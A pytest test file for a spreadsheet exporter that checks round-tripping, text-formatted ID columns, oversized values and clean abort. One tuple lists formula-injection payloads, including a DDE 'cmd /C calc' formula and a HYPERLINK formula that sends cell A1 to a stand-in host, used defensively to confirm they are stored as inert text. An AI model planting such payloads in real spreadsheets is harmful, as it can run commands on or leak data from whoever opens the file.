import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from domain.errors import KnownError
from exchange.export import Column, write_table
from exchange.workbook import read_sheets

COLUMNS = [Column("身份证号", 20), Column("姓名"), Column("日期"), Column("人数")]


def test_what_is_written_is_read_back(tmp_path: Path) -> None:
    rows = [
        ["329999199410071894", "张㛃", date(2026, 3, 1), 3],
        ["0527", None, datetime(2026, 3, 1, 8, 30), 1.5],
    ]
    path = tmp_path / "住户.xlsx"
    assert write_table(path, "住户", COLUMNS, rows) == 2
    (sheet,) = read_sheets(path)
    assert sheet.rows[0][0] == "住户"
    assert sheet.rows[1] == ["身份证号", "姓名", "日期", "人数"]
    assert sheet.rows[2] == rows[0]
    assert sheet.rows[3] == ["0527", "", datetime(2026, 3, 1, 8, 30), 1.5]
    assert list(tmp_path.iterdir()) == [path]


def test_the_header_is_frozen_and_ids_are_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_table(path, "", COLUMNS, [["329999199410071894", "张三", None, 1]])
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].number_format == "@"
    assert sheet.column_dimensions["A"].width > 19


RUN_BY_SPREADSHEETS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid?"&A1)',
    "=cmd|' /C calc'!A0",
    "+8619900000147",
    "-3号楼",
    "-",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "'=1+1",
    "_x003D_1+1",
    "http://example.invalid",
)


def test_no_text_runs_or_changes_whatever_it_begins_with(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    titles = [Column(word) for word in RUN_BY_SPREADSHEETS]
    write_table(path, "=1+1", titles, [RUN_BY_SPREADSHEETS])
    assert read_sheets(path)[0].rows[1:] == [[*RUN_BY_SPREADSHEETS]] * 2
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    # Who edits such a cell still has a text: what the apostrophe in front means in Excel and WPS.
    quoted = [cell.quotePrefix for cell in (*sheet[2], *sheet[3])]
    assert quoted == [word[0] in "=+-@\t\r" for word in RUN_BY_SPREADSHEETS] * 2
    assert sheet["A1"].quotePrefix


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_another_program_reads_the_same_texts(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_table(path, "", [Column("文字")], [[word] for word in RUN_BY_SPREADSHEETS])
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    command = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir"]
    subprocess.run(
        [*command, str(tmp_path), str(path)], check=True, capture_output=True, timeout=120
    )
    told = path.with_suffix(".fods").read_text(encoding="utf-8")
    assert "table:formula" not in told
    assert told.count('office:value-type="string"') == 1 + len(RUN_BY_SPREADSHEETS)


def test_what_no_cell_can_hold_is_written_as_text_and_told(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    odd = [date(1899, 12, 31), float("inf"), "半\ud800个", "长" * 40_000]
    write_table(path, "", COLUMNS, [odd])
    first, infinite, half, long = read_sheets(path)[0].rows[1]
    assert (first, infinite, half) == ("1899-12-31", "inf", "半?个")
    assert len(long) == 32_767
    assert long.endswith("后面的没有导出）")


def test_stopping_leaves_nothing_behind(tmp_path: Path) -> None:
    def stop(done: int) -> None:
        raise KeyboardInterrupt

    path = tmp_path / "a.xlsx"
    rows = ([str(n)] for n in range(5000))
    with pytest.raises(KeyboardInterrupt):
        write_table(path, "表", [Column("号")], rows, stop)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(KnownError, match="无法写入"):
        write_table(tmp_path / "没有" / "a.xlsx", "表", [Column("号")], [["1"]])
